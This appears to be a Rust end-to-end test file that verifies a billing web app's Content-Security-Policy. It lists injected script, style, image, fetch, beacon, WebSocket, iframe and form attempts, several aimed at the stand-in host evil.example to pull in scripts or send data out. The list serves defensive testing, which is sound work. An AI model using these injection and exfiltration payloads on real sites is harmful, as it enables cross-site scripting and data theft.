//! The Content-Security-Policy of the page: it has no permission that the app does not need, and stops injected markup.
//! Every story fails if the app itself violates the policy (`harness/stage.rs`).

use std::path::Path;

use sandbox::Demo;
use serde_json::json;

use crate::harness::driver::Logs;
use crate::harness::site::{SiteCopy, dist};
use crate::harness::stage::play;
use crate::harness::user::User;

/// A script that sets the production API in place of the sandbox's, before the app reads it.
const USE_PRODUCTION_API: &str = "new MutationObserver(() =>
    document.querySelector('meta[name=altostrat-api-base]')?.setAttribute('content', 'https://v1.api.altostrat.io')
).observe(document, { childList: true, subtree: true })";

/// The page without a permission. A directive that loses its last source stays, and then allows nothing.
fn page_without(permission: &str, page: &str) -> String {
    let (before, after) = page.split_once(permission).unwrap_or_else(|| panic!("the policy has {permission}"));
    let directive = permission.find("-src").map_or("", |end| &permission[..end + "-src".len()]);
    format!("{before}{directive}{after}")
}

/// Opens the page without a permission, and waits for the violated directive and the page's message, if it has one.
async fn see_violation(user: &User, index: &Path, page: &str, permission: &str, directive: &str, message: &str) {
    std::fs::write(index, page_without(permission, page)).expect("the page is written");
    user.goto("/").await;
    let violated = format!("window.violations.some(text => text.startsWith('securitypolicyviolation: {directive}'))");
    user.expect(&violated, true).await;
    if !message.is_empty() {
        user.see(message).await;
        user.expect("!!control('Token')", false).await;
    }
}

#[tokio::test]
async fn the_app_needs_every_permission_of_the_policy() {
    let copy = SiteCopy::of_dist();
    let index = copy.file("index", ".html");
    let page = std::fs::read_to_string(&index).expect("the page is read");
    play(copy.folder(), Logs::Console, async |user| {
        let (index, page) = (index.as_path(), page.as_str());
        see_violation(user, index, page, "script-src 'self'", "script-src-elem", "").await;
        see_violation(
            user,
            index,
            page,
            " 'wasm-unsafe-eval'",
            "script-src",
            "This browser can’t run Altostrat Billing",
        )
        .await;
        see_violation(user, index, page, "style-src 'self'", "style-src-elem", "Altostrat Billing couldn’t be loaded")
            .await;
        see_violation(user, index, page, "connect-src 'self'", "connect-src", "Altostrat Billing couldn’t be loaded")
            .await;
        see_violation(user, index, page, "img-src data:", "img-src", "").await;

        user.run_before_each_page(USE_PRODUCTION_API).await;
        std::fs::write(index, page).expect("the page is written");
        user.goto("/").await;
        user.sign_in(Demo::Owner).await;
        user.see("Try again").await;
        user.expect("window.violations", json!([])).await;
        std::fs::write(index, page_without(" https://v1.api.altostrat.io", page)).expect("the page is written");
        user.goto("/").await;
        user.sign_in(Demo::Owner).await;
        user.expect("window.violations[0]", "securitypolicyviolation: connect-src").await;
        assert!(user.sandbox.requests().is_empty());
    })
    .await;
}

#[tokio::test]
async fn injected_markup_and_scripts_are_stopped_by_the_policy() {
    // The violated directive, and the injected script.
    let attempts = [
        ("script-src-elem", "add('script').textContent = 'window.ran = 1'"),
        ("script-src-elem", "add('script').src = 'https://evil.example/x.js'"),
        ("script-src-elem", "add('script').src = 'data:text/javascript,window.ran = 1'"),
        ("script-src-attr", "add('p').setAttribute('onclick', 'window.ran = 1')"),
        ("script-src-elem", "add('a', { href: 'javascript:window.ran = 1' }).click()"),
        ("style-src-elem", "add('style').textContent = 'body { display: none }'"),
        ("style-src-attr", "add('p').setAttribute('style', 'color: red')"),
        ("img-src", "add('img').src = 'https://evil.example/?x'"),
        ("img-src", "add('img').src = '/?x'"),
        ("connect-src", "fetch('https://evil.example/', { method: 'POST', body: 'x' }).catch(() => {})"),
        ("connect-src", "navigator.sendBeacon('https://evil.example/', 'x')"),
        ("connect-src", "new WebSocket('wss://evil.example/')"),
        ("frame-src", "add('iframe').src = 'https://evil.example/'"),
        ("base-uri", "add('base').href = 'https://evil.example/'"),
        ("form-action", "add('form', { action: 'https://evil.example/' }).submit()"),
        ("object-src", "add('object').data = 'https://evil.example/'"),
        ("font-src", "new FontFace('x', 'url(https://evil.example/x)').load().catch(() => {})"),
        ("media-src", "add('audio').src = 'https://evil.example/'"),
        ("worker-src", "try { new Worker('data:text/javascript,0') } catch {}"),
    ];
    play(dist(), Logs::Console, async |user| {
        user.goto("/").await;
        user.see_heading("Sign in").await;
        for (directive, attempt) in attempts {
            let script = format!(
                "const add = (name, properties) => {{ const element = Object.assign(document.createElement(name), properties);
                    document.body.append(element); return element; }};
                window.violations.length = 0;
                {attempt};"
            );
            user.client.execute(&script, Vec::new()).await.unwrap_or_else(|error| panic!("{attempt}: {error}"));
            let violated = format!(
                "window.violations.includes('securitypolicyviolation: {directive}') || JSON.stringify([{}, window.violations])",
                json!(attempt)
            );
            user.expect(&violated, true).await;
        }
        user.expect("window.ran === undefined", true).await;
        user.see_heading("Sign in").await;
    })
    .await;
}
